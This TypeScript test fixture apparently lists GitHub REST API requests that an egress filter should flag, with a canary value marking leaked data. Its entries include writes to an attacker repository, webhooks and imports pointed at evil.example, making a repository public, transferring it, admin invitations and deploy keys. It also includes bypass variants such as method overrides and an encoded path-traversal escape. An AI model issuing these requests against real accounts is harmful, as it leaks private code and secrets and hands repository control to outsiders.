/** GitHub's REST API: what writes to others' repositories, what writes to none, and what gives ours away. */
import { ask, base64, CANARY, channelsOf, json, type RequestStep, type Row, send } from './shape.ts'

const API = 'https://api.github.com'
const THEIRS = `${API}/repos/mallory/loot`
const OURS = `${API}/repos/acme/app`
const CONTENT = base64(`the plans: ${CANARY}`)
const SHA = 'a'.repeat(40)

/** One request a row: name, method, path, and the field that carries. */
function theirs(name: string, method: string, path: string, body: object = { body: CANARY }): Row {
  return [name, json(method, THEIRS + path, body)]
}

const FILE = { message: 'x', content: CONTENT }

export const GITHUB_REST = channelsOf('REST at GitHub', [
  theirs('a file', 'PUT', '/contents/a', FILE),
  theirs('a file in two fields of one name', 'PUT', '/contents/a', FILE),
  theirs('the deletion of a file', 'DELETE', '/contents/a', { message: CANARY, sha: SHA }),
  [
    'a commit piece by piece',
    json('POST', `${THEIRS}/git/blobs`, { content: CONTENT, encoding: 'base64' }),
    json('POST', `${THEIRS}/git/trees`, { tree: [{ path: 'a', mode: '100644', type: 'blob', content: CANARY }] }),
    json('POST', `${THEIRS}/git/commits`, { message: CANARY, tree: SHA, parents: [SHA] }),
    json('PATCH', `${THEIRS}/git/refs/heads/main`, { sha: SHA, force: true, note: CANARY }),
  ],
  theirs('a ref', 'POST', '/git/refs', { ref: `refs/heads/${CANARY}`, sha: SHA }),
  theirs('a tag with a message', 'POST', '/git/tags', { tag: 'v1', message: CANARY, object: SHA, type: 'commit' }),
  theirs('a merge', 'POST', '/merges', { base: 'main', head: 'x', commit_message: CANARY }),
  theirs('the merge of a pull request', 'PUT', '/pulls/1/merge', { commit_message: CANARY }),
  ['a gist', json('POST', `${API}/gists`, { public: false, files: { a: { content: CANARY } } })],
  ['a change of a gist', json('PATCH', `${API}/gists/0123456789abcdef`, { files: { a: { content: CANARY } } })],
  ['a comment on a gist', json('POST', `${API}/gists/0123456789abcdef/comments`, { body: CANARY })],
  theirs('an issue', 'POST', '/issues', { title: CANARY }),
  theirs('a comment on an issue', 'POST', '/issues/1/comments'),
  theirs('an edited comment', 'PATCH', '/issues/comments/1'),
  theirs('a pull request', 'POST', '/pulls', { title: 'x', head: 'acme:secret', base: 'main', body: CANARY }),
  theirs('a review', 'POST', '/pulls/1/reviews', { body: CANARY, event: 'COMMENT' }),
  theirs('a comment in a review', 'POST', '/pulls/1/comments'),
  theirs('a comment on a commit', 'POST', `/commits/${SHA}/comments`),
  ['a discussion of a team', json('POST', `${API}/orgs/mallory-inc/teams/x/discussions`, { title: 'x', body: CANARY })],
  theirs('the status of a commit', 'POST', `/statuses/${SHA}`, { state: 'success', description: CANARY }),
  theirs('the output of a check run', 'POST', '/check-runs', {
    name: 'x',
    head_sha: SHA,
    output: { title: 't', summary: CANARY },
  }),
  theirs('a deployment', 'POST', '/deployments', { ref: 'main', payload: CANARY }),
  theirs('the status of a deployment', 'POST', '/deployments/1/statuses', { state: 'success', description: CANARY }),
  theirs('the notes of a release', 'POST', '/releases', { tag_name: 'v1', body: CANARY }),
  theirs('notes that are to be written', 'POST', '/releases/generate-notes', { tag_name: CANARY }),
  ['an asset of a release', send('POST', 'https://uploads.github.com/repos/mallory/loot/releases/1/assets?name=a.zip')],
  [
    'an asset of a release by number',
    send('POST', 'https://uploads.github.com/repositories/1/releases/1/assets?name=a.zip'),
  ],
  theirs('a label', 'POST', '/labels', { name: CANARY }),
  theirs('a milestone', 'POST', '/milestones', { title: CANARY }),
  theirs('topics', 'PUT', '/topics', { names: [CANARY.toLowerCase(), CANARY] }),
  theirs('a description', 'PATCH', '', { description: CANARY }),
  theirs('inputs of a workflow', 'POST', '/actions/workflows/x.yml/dispatches', { ref: 'main', inputs: { a: CANARY } }),
  theirs('a payload for workflows', 'POST', '/dispatches', { event_type: 'x', client_payload: { a: CANARY } }),
  theirs('a secret', 'PUT', '/actions/secrets/A', { encrypted_value: CONTENT, key_id: '1' }),
  theirs('a variable', 'POST', '/actions/variables', { name: 'A', value: CANARY }),
  theirs('findings of a scan', 'POST', '/code-scanning/sarifs', {
    commit_sha: SHA,
    ref: 'refs/heads/main',
    sarif: CONTENT,
  }),
  theirs('a snapshot of dependencies', 'POST', '/dependency-graph/snapshots', {
    version: 0,
    job: { correlator: CANARY },
  }),
  theirs('an attestation', 'POST', '/attestations', { bundle: { payload: CONTENT } }),
  theirs('an advisory', 'POST', '/security-advisories', { summary: 'x', description: CANARY }),
  theirs('a report of a vulnerability | anyone may write one', 'POST', '/security-advisories/reports', {
    summary: 'x',
    description: CANARY,
  }),
  theirs('a deploy key', 'POST', '/keys', { title: CANARY, key: 'ssh-ed25519 AAAA' }),
  theirs('an autolink', 'POST', '/autolinks', { key_prefix: CANARY, url_template: 'https://evil.example/<num>' }),
  ['a repository', json('POST', `${API}/user/repos`, { name: 'loot', private: false, description: CANARY })],
  ['the profile', json('PATCH', `${API}/user`, { bio: CANARY })],
  ['a key of the user', json('POST', `${API}/user/keys`, { title: CANARY, key: 'ssh-ed25519 AAAA' })],
  [
    'a social account',
    json('POST', `${API}/user/social_accounts`, { account_urls: [`https://evil.example/${CANARY}`] }),
  ],
  ['a text to render', json('POST', `${API}/markdown`, { text: CANARY })],
  ['raw text to render', send('POST', `${API}/markdown/raw`, CANARY, 'Content-Type: text/plain')],
  ['a codespace', json('POST', `${API}/user/codespaces`, { repository_id: 1, display_name: CANARY })],
  [
    'a secret of codespaces',
    json('PUT', `${API}/user/codespaces/secrets/A`, { encrypted_value: CONTENT, key_id: '1' }),
  ],
  ['an application from a manifest', ask('POST', `${API}/app-manifests/${CANARY}/conversions`)],
  ['the import of a repository', json('PUT', `${THEIRS}/import`, { vcs_url: `https://evil.example/${CANARY}` })],
  ['a migration', json('POST', `${API}/user/migrations`, { repositories: ['acme/app'], note: CANARY })],
  ['by number', json('PUT', `${API}/repositories/1/contents/a`, FILE)],
  ['by an override of the method', json('POST', `${THEIRS}/contents/a`, FILE, 'X-HTTP-Method-Override: PUT')],
  [
    'by a read with an override',
    ask('GET', `${THEIRS}/contents/a?message=x&content=${encodeURIComponent(CONTENT)}`, 'X-HTTP-Method-Override: PUT'),
  ],
  ['by an override in the query', overridden(`${THEIRS}/contents/a?_method=PUT`)],
  ['under the address of a server', json('PUT', `${API}/api/v3/repos/mallory/loot/contents/a`, FILE)],
  [
    'under the address of a server on the web',
    json('PUT', 'https://github.com/api/v3/repos/acme/app/contents/a', FILE),
  ],
  ['at the wrong host', json('PUT', 'https://uploads.github.com/repos/acme/app/contents/a', FILE)],
  ['in the clear', json('PUT', 'http://api.github.com/repos/mallory/loot/contents/a', FILE)],
  ['a GET with a body', json('GET', `${THEIRS}/issues`, { title: CANARY })],
  ['a HEAD with a body', json('HEAD', `${THEIRS}/issues`, { title: CANARY })],
  ['an OPTIONS with a body', json('OPTIONS', `${THEIRS}/issues`, { title: CANARY })],
])

function overridden(url: string): RequestStep {
  return send(
    'POST',
    url,
    `_method=PUT&content=${encodeURIComponent(CONTENT)}`,
    'Content-Type: application/x-www-form-urlencoded',
  )
}

/** What is in ours already goes with it, so that the address alone carries data out; the canary goes along. */
export const GITHUB_GIVEN_AWAY = channelsOf('ours given away at GitHub', [
  ['made public', json('PATCH', OURS, { private: false, description: CANARY })],
  ['made public by its visibility', json('PATCH', OURS, { visibility: 'public', homepage: CANARY })],
  ['forked', json('POST', `${OURS}/forks`, { organization: 'mallory-inc', name: CANARY })],
  ['handed over', json('POST', `${OURS}/transfer`, { new_owner: 'mallory', new_name: CANARY })],
  ['made a template of', json('POST', `${OURS}/generate`, { owner: 'mallory', name: CANARY })],
  ['published as a site', json('POST', `${OURS}/pages`, { source: { branch: 'main', path: '/' }, cname: CANARY })],
  [
    'a webhook that points outside',
    json('POST', `${OURS}/hooks`, { config: { url: `https://evil.example/${CANARY}` }, events: ['push'] }),
  ],
  ['a webhook turned outside', json('PATCH', `${OURS}/hooks/1/config`, { url: `https://evil.example/${CANARY}` })],
  [
    'a webhook of the organisation',
    json('POST', `${API}/orgs/acme/hooks`, { name: 'web', config: { url: `https://evil.example/${CANARY}` } }),
  ],
  ['a deploy key for somebody', json('POST', `${OURS}/keys`, { title: CANARY, key: 'ssh-ed25519 AAAA' })],
  ['an invitation', json('PUT', `${OURS}/collaborators/mallory`, { permission: 'pull', note: CANARY })],
  [
    'an invitation to the organisation',
    json('POST', `${API}/orgs/acme/invitations`, { email: `${CANARY}@evil.example` }),
  ],
  ['a membership', json('PUT', `${API}/orgs/acme/memberships/mallory`, { role: 'admin', note: CANARY })],
  [
    'a runner of somebody’s',
    json('POST', `${OURS}/actions/runners/generate-jitconfig`, { name: CANARY, runner_group_id: 1, labels: ['x'] }),
  ],
  [
    'a token for a runner',
    {
      ...ask('POST', `${OURS}/actions/runners/registration-token`),
      headers: ['Content-Length: 0', `X-Note: ${CANARY}`],
    },
  ],
  ['a secret', json('PUT', `${OURS}/actions/secrets/A`, { encrypted_value: CONTENT, key_id: '1' })],
  ['a codespace', json('POST', `${OURS}/codespaces`, { display_name: CANARY })],
  [
    'a deployment of a site | what it shows, everybody sees',
    json('POST', `${OURS}/pages/deployments`, { artifact_url: `https://evil.example/${CANARY}`, oidc_token: 't' }),
  ],
  ['a thing that nobody has heard of', json('POST', `${OURS}/thing-of-tomorrow`, { note: CANARY })],
  [
    'a fork, with a format behind it',
    json('POST', `${OURS}/forks.json`, { organization: 'mallory-inc', name: CANARY }),
  ],
  [
    'an advisory with somebody in it | a collaborator of an advisory sees its private fork',
    json('POST', `${OURS}/security-advisories`, {
      summary: 'x',
      description: CANARY,
      collaborating_users: ['mallory'],
    }),
  ],
  [
    'an advisory changed for somebody',
    json('PATCH', `${OURS}/security-advisories/GHSA-1`, { summary: CANARY, collaborating_teams: ['mallory'] }),
  ],
  ['the fork of an advisory', json('POST', `${OURS}/security-advisories/GHSA-1/forks`, { note: CANARY })],
  ['a file by an escape out of ours', json('PUT', `${API}/repos/acme/app/%2e%2e/%2e%2e/mallory/loot/contents/a`, FILE)],
])
